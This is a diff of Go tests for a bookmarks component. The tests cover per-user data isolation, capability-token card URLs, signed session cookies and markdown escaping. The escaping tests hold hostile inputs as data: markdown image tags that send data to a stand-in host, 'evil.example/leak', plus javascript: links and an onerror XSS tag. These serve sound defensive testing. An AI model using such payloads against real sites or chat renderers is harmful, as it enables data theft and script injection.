@@ -17,6 +17,8 @@ import (
 	"time"
 
 	"github.com/golang-jwt/jwt/v5"
+	"github.com/yuin/goldmark"
+	"github.com/yuin/goldmark/extension"
 
 	"github.com/toolgate/toolgate/apptools"
 )
@@ -36,6 +38,13 @@ type env struct {
 
 func newEnv(t *testing.T) *env {
 	t.Helper()
+	return newEnvFor(t, "bookmarks")
+}
+
+// newEnvFor is newEnv for a component toolgate names component; its
+// tokens are still for the audience bookmarks.
+func newEnvFor(t *testing.T, component string) *env {
+	t.Helper()
 	pub, priv, err := ed25519.GenerateKey(rand.Reader)
 	if err != nil {
 		t.Fatal(err)
@@ -54,7 +63,7 @@ func newEnv(t *testing.T) *env {
 	t.Cleanup(keys.Close)
 
 	v := apptools.NewVerifier(keys.URL+"/.well-known/jwks.json", "toolgate", "bookmarks")
-	srv := httptest.NewServer(newApp(testPublic+"/", "bookmarks", v).routes())
+	srv := httptest.NewServer(newApp(testPublic+"/", component, v).routes())
 	t.Cleanup(srv.Close)
 	e := &env{srv: srv, key: priv}
 	e.token = sign(t, priv, claims())
@@ -237,9 +246,22 @@ func TestShow(t *testing.T) {
 	if want := "b1: Go (https://go.dev), tags: lang, google"; m["content"] != want {
 		t.Errorf("content %q, want %q", m["content"], want)
 	}
-	if want := testPublic + "/bookmarks/b1/card"; m["embedUrl"] != want {
-		t.Errorf("embedUrl %q, want %q", m["embedUrl"], want)
+	if want := testPublic + "/bookmarks/b1/card?t="; !strings.HasPrefix(m["embedUrl"], want) {
+		t.Errorf("embedUrl %q, want it to start %q", m["embedUrl"], want)
 	}
+}
+
+// cardPath returns the path of a bookmark's card page, as its show
+// answer's embedUrl gives it, for the caller whose token is given.
+func (e *env) cardPath(t *testing.T, token, id string) string {
+	t.Helper()
+	a := e.send(t, "GET", "/bookmarks/"+id, "", http.Header{"Authorization": {"Bearer " + token}})
+	m := decodeStrict(t, a, "content", "embedUrl")
+	path, ok := strings.CutPrefix(m["embedUrl"], testPublic)
+	if !ok {
+		t.Fatalf("embedUrl %q is not below %s", m["embedUrl"], testPublic)
+	}
+	return path
 }
 
 func TestNotFound(t *testing.T) {
@@ -283,7 +305,7 @@ func TestCard(t *testing.T) {
 	e := newEnv(t)
 	e.save(t, `{"url":"https://example.com/?a=1&b=2","title":"<script>alert(1)</script>","tags":["x<y"]}`)
 	// The browser loads the card with no token.
-	a := e.send(t, "GET", "/bookmarks/b1/card", "", nil)
+	a := e.send(t, "GET", e.cardPath(t, e.token, "b1"), "", nil)
 	if a.status != http.StatusOK || a.contentType != "text/html; charset=utf-8" {
 		t.Fatalf("card: %d %q", a.status, a.contentType)
 	}
@@ -419,12 +441,13 @@ func TestToolsNeedAVerifiedToken(t *testing.T) {
 func TestNoTokenNeeded(t *testing.T) {
 	e := newEnv(t)
 	e.save(t, `{"url":"https://go.dev","title":"Go"}`)
+	card := e.cardPath(t, e.token, "b1")
 	for _, h := range []http.Header{nil, {"Authorization": {"Bearer garbage"}}} {
 		a := e.send(t, "GET", "/ping", "", h)
 		if a.status != http.StatusOK || a.contentType != "text/plain; charset=utf-8" || a.body != "pong" {
 			t.Errorf("ping with %v: %d %q %q", h, a.status, a.contentType, a.body)
 		}
-		a = e.send(t, "GET", "/bookmarks/b1/card", "", h)
+		a = e.send(t, "GET", card, "", h)
 		if a.status != http.StatusOK || a.contentType != "text/html; charset=utf-8" || !strings.Contains(a.body, "https://go.dev") {
 			t.Errorf("card with %v: %d %q", h, a.status, a.contentType)
 		}
@@ -548,13 +571,9 @@ func TestClearNamesAFew(t *testing.T) {
 // TestClearTargetsItsComponent checks the delete button names the
 // component by the name toolgate knows it under (-audience), not a fixed one.
 func TestClearTargetsItsComponent(t *testing.T) {
-	a := newApp(testPublic, "links", nil)
-	a.items["b1"] = &bookmark{ID: "b1", URL: "https://go.dev", Title: "Go", seq: 1}
-	r := httptest.NewRequest("POST", "/bookmarks/clear", nil)
-	r.Header.Set("Kazzle-Tool-Context", threadContext)
-	w := httptest.NewRecorder()
-	a.askClear(w, r)
-	c := decodeCard(t, answer{status: w.Code, contentType: w.Header().Get("Content-Type"), body: w.Body.String()})
+	e := newEnvFor(t, "links")
+	e.save(t, `{"url":"https://go.dev","title":"Go"}`)
+	c := decodeCard(t, e.call(t, "POST", "/bookmarks/clear", threadContext))
 	var target map[string]string
 	if err := json.Unmarshal(c.Elements[0].Target, &target); err != nil || target["component"] != "links" {
 		t.Errorf("target %s (%v), want component links", c.Elements[0].Target, err)
@@ -699,7 +718,8 @@ func TestManifest(t *testing.T) {
 	}
 }
 
-// TestPage checks the example page and the page tokens it asks for.
+// TestPage checks the example page and the page tokens it asks for: one
+// is minted only for the user the page's session signed in.
 func TestPage(t *testing.T) {
 	secret := []byte(devPageSecret)
 	a := newApp(testPublic, "bookmarks", apptools.NewVerifier("http://127.0.0.1:1/jwks", "toolgate", "bookmarks")).
@@ -712,26 +732,234 @@ func TestPage(t *testing.T) {
 		!strings.Contains(w.Body.String(), "<toolgate-client>") {
 		t.Errorf("page: %d\n%s", w.Code, w.Body)
 	}
+	cookies := w.Result().Cookies()
+	if len(cookies) != 1 || cookies[0].Name != sessionCookie || !cookies[0].HttpOnly || cookies[0].SameSite != http.SameSiteStrictMode {
+		t.Fatalf("page set cookies %v, want one HttpOnly SameSite=Strict session", cookies)
+	}
+	session := cookies[0]
 
-	w = httptest.NewRecorder()
-	h.ServeHTTP(w, httptest.NewRequest("GET", "/page-token?thread=th_1", nil))
-	var got struct{ Token, User, Thread string }
-	if err := json.Unmarshal(w.Body.Bytes(), &got); err != nil || w.Code != 200 {
-		t.Fatalf("page-token: %d %s", w.Code, w.Body)
+	tokenFor := func(query string, cookie *http.Cookie) (*httptest.ResponseRecorder, jwt.MapClaims) {
+		t.Helper()
+		r := httptest.NewRequest("GET", "/page-token?"+query, nil)
+		if cookie != nil {
+			r.AddCookie(cookie)
+		}
+		w := httptest.NewRecorder()
+		h.ServeHTTP(w, r)
+		if w.Code != 200 {
+			return w, nil
+		}
+		var got struct{ Token, User, Thread string }
+		if err := json.Unmarshal(w.Body.Bytes(), &got); err != nil {
+			t.Fatalf("page-token: %s", w.Body)
+		}
+		claims := jwt.MapClaims{}
+		if _, err := jwt.NewParser(jwt.WithValidMethods([]string{"HS256"}), jwt.WithAudience("toolgate-pages"), jwt.WithIssuer("bookmarks")).
+			ParseWithClaims(got.Token, claims, func(*jwt.Token) (any, error) { return secret, nil }); err != nil {
+			t.Fatalf("page token does not verify: %v", err)
+		}
+		if got.User != claims["sub"] || got.Thread != claims["thread"] {
+			t.Errorf("answer names %s/%s, token %v", got.User, got.Thread, claims)
+		}
+		return w, claims
 	}
-	claims := jwt.MapClaims{}
-	if _, err := jwt.NewParser(jwt.WithValidMethods([]string{"HS256"}), jwt.WithAudience("toolgate-pages"), jwt.WithIssuer("bookmarks")).
-		ParseWithClaims(got.Token, claims, func(*jwt.Token) (any, error) { return secret, nil }); err != nil {
-		t.Fatalf("page token does not verify: %v", err)
-	}
-	if claims["sub"] != "u_1" || claims["thread"] != "th_1" {
+
+	if _, claims := tokenFor("thread=th_1", session); claims["sub"] != "u_1" || claims["thread"] != "th_1" {
 		t.Errorf("claims %v", claims)
 	}
+	// A user named in the request changes nothing.
+	if _, claims := tokenFor("thread=th_1&user=u_2&sub=u_2", session); claims["sub"] != "u_1" {
+		t.Errorf("a request naming u_2 got a token for %v", claims["sub"])
+	}
+	// No session, or one this process did not sign, gets no token.
+	forged := *session
+	forged.Value = strings.TrimSuffix(session.Value, session.Value[len(session.Value)-4:]) + "AAAA"
+	other, err := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.MapClaims{"aud": sessionAudience, "sub": "u_2", "exp": time.Now().Add(time.Hour).Unix()}).
+		SignedString(secret)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, c := range map[string]*http.Cookie{
+		"no cookie":                   nil,
+		"tampered":                    &forged,
+		"signed with the page secret": {Name: sessionCookie, Value: other},
+		"a page token":                {Name: sessionCookie, Value: mustToken(t, secret)},
+	} {
+		if w, _ := tokenFor("thread=th_1", c); w.Code != http.StatusUnauthorized || !strings.Contains(w.Body.String(), `"code":"unauthorized"`) {
+			t.Errorf("%s: page-token %d %s, want 401", name, w.Code, w.Body)
+		}
+	}
 	for _, bad := range []string{"", "a b", "x/../y", strings.Repeat("t", 65)} {
-		w = httptest.NewRecorder()
-		h.ServeHTTP(w, httptest.NewRequest("GET", "/page-token?thread="+url.QueryEscape(bad), nil))
-		if w.Code != 400 {
+		if w, _ := tokenFor("thread="+url.QueryEscape(bad), session); w.Code != 400 {
 			t.Errorf("thread %q: %d", bad, w.Code)
 		}
+	}
+}
+
+// mustToken mints a page token as /page-token does, for u_2.
+func mustToken(t *testing.T, secret []byte) string {
+	t.Helper()
+	tok, err := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.MapClaims{
+		"iss": "bookmarks", "aud": "toolgate-pages", "sub": "u_2", "thread": "th_1", "exp": time.Now().Add(time.Hour).Unix(),
+	}).SignedString(secret)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return tok
+}
+
+// tokenFor signs a token for user at install, for this component.
+func (e *env) tokenFor(t *testing.T, user, install string) string {
+	t.Helper()
+	c := claims()
+	c["sub"], c["install"] = user, install
+	return sign(t, e.key, c)
+}
+
+// as calls the component with the given token and the thread context.
+func (e *env) as(t *testing.T, token, method, path, body string) answer {
+	t.Helper()
+	return e.send(t, method, path, body, http.Header{"Authorization": {"Bearer " + token}, "Kazzle-Tool-Context": {threadContext}})
+}
+
+// TestBookmarksPerUser checks that each verified user (and installation)
+// sees, changes and clears only their own bookmarks.
+func TestBookmarksPerUser(t *testing.T) {
+	e := newEnv(t)
+	u2 := e.tokenFor(t, "u_2", "in_1")
+	u1elsewhere := e.tokenFor(t, "u_1", "in_2")
+	e.save(t, `{"url":"https://go.dev","title":"Go"}`)
+	e.save(t, `{"url":"https://caddyserver.com","title":"Caddy"}`)
+
+	for name, tok := range map[string]string{"another user": u2, "the same user in another install": u1elsewhere} {
+		t.Run(name, func(t *testing.T) {
+			if a := e.as(t, tok, "GET", "/bookmarks", ""); a.body != "No bookmarks." {
+				t.Errorf("list: %q", a.body)
+			}
+			for _, m := range []string{"GET", "DELETE"} {
+				if a := e.as(t, tok, m, "/bookmarks/b1", ""); a.status != http.StatusNotFound || !strings.Contains(a.body, "no bookmark b1") {
+					t.Errorf("%s b1: %d %s", m, a.status, a.body)
+				}
+			}
+			if a := e.as(t, tok, "POST", "/bookmarks/clear", ""); a.status != http.StatusOK || !strings.Contains(a.body, "There are no bookmarks to clear.") {
+				t.Errorf("clear: %d %s", a.status, a.body)
+			}
+			if a := e.as(t, tok, "POST", "/bookmarks/clear/confirm", ""); a.status != http.StatusOK || !strings.Contains(a.body, "no bookmarks left") {
+				t.Errorf("clear confirm: %d %s", a.status, a.body)
+			}
+		})
+	}
+
+	// u_2's own bookmarks count from b1 and stay u_2's.
+	a := e.as(t, u2, "POST", "/bookmarks", `{"url":"https://example.com/u2","title":"Mine"}`)
+	if a.status != http.StatusCreated || !strings.Contains(a.body, "Saved bookmark b1: Mine") {
+		t.Fatalf("u_2 save: %d %s", a.status, a.body)
+	}
+	if a := e.as(t, u2, "GET", "/bookmarks/b1", ""); !strings.Contains(a.body, "b1: Mine") {
+		t.Errorf("u_2 show b1: %s", a.body)
+	}
+	if a := e.do(t, "GET", "/bookmarks", ""); a.body != "b1 Go https://go.dev\nb2 Caddy https://caddyserver.com\n" {
+		t.Errorf("u_1's list after the others acted:\n%s", a.body)
+	}
+	if a := e.do(t, "GET", "/bookmarks/b1", ""); !strings.Contains(a.body, "b1: Go") {
+		t.Errorf("u_1 show b1: %s", a.body)
+	}
+	if a := e.as(t, e.token, "POST", "/bookmarks/clear/confirm", ""); !strings.Contains(a.body, "Deleted all 2 bookmarks.") {
+		t.Errorf("u_1 clear: %s", a.body)
+	}
+	if a := e.as(t, u2, "GET", "/bookmarks", ""); a.body != "b1 Mine https://example.com/u2\n" {
+		t.Errorf("u_1's clear touched u_2's:\n%s", a.body)
+	}
+}
+
+// TestCardCapability checks that a card page shows a bookmark only to a
+// URL this component handed out for it: an id alone, another bookmark's
+// URL or a tampered one get the same 404 as an unknown id.
+func TestCardCapability(t *testing.T) {
+	e := newEnv(t)
+	u2 := e.tokenFor(t, "u_2", "in_1")
+	e.save(t, `{"url":"https://go.dev","title":"Go"}`)
+	e.save(t, `{"url":"https://caddyserver.com","title":"Caddy"}`)
+	if a := e.as(t, u2, "POST", "/bookmarks", `{"url":"https://example.com/u2","title":"Mine"}`); a.status != http.StatusCreated {
+		t.Fatalf("u_2 save: %d %s", a.status, a.body)
+	}
+	card1 := e.cardPath(t, e.token, "b1")
+	card2 := e.cardPath(t, e.token, "b2")
+	u2card := e.cardPath(t, u2, "b1")
+	if a := e.send(t, "GET", card1, "", nil); a.status != http.StatusOK || !strings.Contains(a.body, "https://go.dev") {
+		t.Errorf("u_1's card: %d %s", a.status, a.body)
+	}
+	if a := e.send(t, "GET", u2card, "", nil); a.status != http.StatusOK || !strings.Contains(a.body, "https://example.com/u2") || strings.Contains(a.body, "go.dev") {
+		t.Errorf("u_2's card of its b1: %d %s", a.status, a.body)
+	}
+	_, tok2, _ := strings.Cut(card2, "?")
+	for name, path := range map[string]string{
+		"id alone":                 "/bookmarks/b1/card",
+		"empty token":              "/bookmarks/b1/card?t=",
+		"another bookmark's token": "/bookmarks/b1/card?" + tok2,
+		"tampered token":           card1[:len(card1)-3] + "AAA",
+		"token of a deleted bookmark": func() string {
+			e.do(t, "DELETE", "/bookmarks/b2", "")
+			return card2
+		}(),
+	} {
+		a := e.send(t, "GET", path, "", nil)
+		if a.status != http.StatusNotFound || !strings.Contains(a.body, `"code":"not_found"`) {
+			t.Errorf("%s: %d %s, want 404 not_found", name, a.status, a.body)
+		}
+	}
+}
+
+// TestSaveMarkdownEscapes checks that the save answer's markdown, rendered
+// by a CommonMark (GFM) renderer, holds exactly one link, to the saved
+// http(s) URL, with the title as its text: a title cannot add an image
+// (which the card would fetch), a link or HTML.
+func TestSaveMarkdownEscapes(t *testing.T) {
+	md := goldmark.New(goldmark.WithExtensions(extension.GFM))
+	tests := []struct {
+		name, title, url string
+		wantHref         string
+		wantText         string // the link's text as rendered
+	}{
+		{"plain", "Go", "https://go.dev", "https://go.dev", "Go"},
+		{"image", "![x](https://evil.example/leak?d=secret)", "https://go.dev", "https://go.dev", "![x](https://evil.example/leak?d=secret)"},
+		{"image by reference", "![x][1]\n\n[1]: https://evil.example/leak", "https://go.dev", "https://go.dev", "![x][1]  [1]: https://evil.example/leak"},
+		{"link", "[click](javascript:alert(1))", "https://go.dev", "https://go.dev", "[click](javascript:alert(1))"},
+		{"closes the link", "a](https://evil.example) [b", "https://go.dev", "https://go.dev", "a](https://evil.example) [b"},
+		{"html", `<img src=x onerror=alert(1)>`, "https://go.dev", "https://go.dev", "&lt;img src=x onerror=alert(1)&gt;"},
+		{"autolink", "<https://evil.example>", "https://go.dev", "https://go.dev", "&lt;https://evil.example&gt;"},
+		{"new block", "a\n\n![x](https://evil.example/leak)", "https://go.dev", "https://go.dev", "a  ![x](https://evil.example/leak)"},
+		{"code and emphasis", "`x` *y* _z_ \\", "https://go.dev", "https://go.dev", "`x` *y* _z_ \\"},
+		{"url closes the destination", "T", "https://go.dev/a) ![x](https://evil.example/leak", "https://go.dev/a%29%20%21%5Bx%5D%28https://evil.example/leak", "T"},
+		{"url with angle brackets", "T", `https://go.dev/?q=<a>"'`, "https://go.dev/?q=%3Ca%3E%22%27", "T"},
+	}
+	e := newEnv(t)
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			body, _ := json.Marshal(map[string]string{"url": tt.url, "title": tt.title})
+			m := e.save(t, string(body))
+			var out bytes.Buffer
+			if err := md.Convert([]byte(m["markdown"]), &out); err != nil {
+				t.Fatal(err)
+			}
+			html := out.String()
+			want := `<p>Saved <strong><a href="` + tt.wantHref + `">` + tt.wantText + "</a></strong></p>\n"
+			if html != want {
+				t.Errorf("markdown %q renders\n%s\nwant\n%s", m["markdown"], html, want)
+			}
+		})
+	}
+}
+
+// TestMarkdownLinkSchemes checks that only an http(s) URL becomes a link,
+// even if a caller skipped save's own check.
+func TestMarkdownLinkSchemes(t *testing.T) {
+	for _, u := range []string{"javascript:alert(1)", "data:text/html,<b>x</b>", "//evil.example/x", "/relative", "mailto:a@b.c", "https://", "%zz"} {
+		if got := markdownLink("T!", u); got != `T\!` {
+			t.Errorf("markdownLink(T!, %q) = %q, want the escaped title alone", u, got)
+		}
+	}
+	if got := markdownLink("T", "HTTPS://go.dev"); got != "[T](https://go.dev)" {
+		t.Errorf("upper-case scheme: %q", got)
 	}
 }
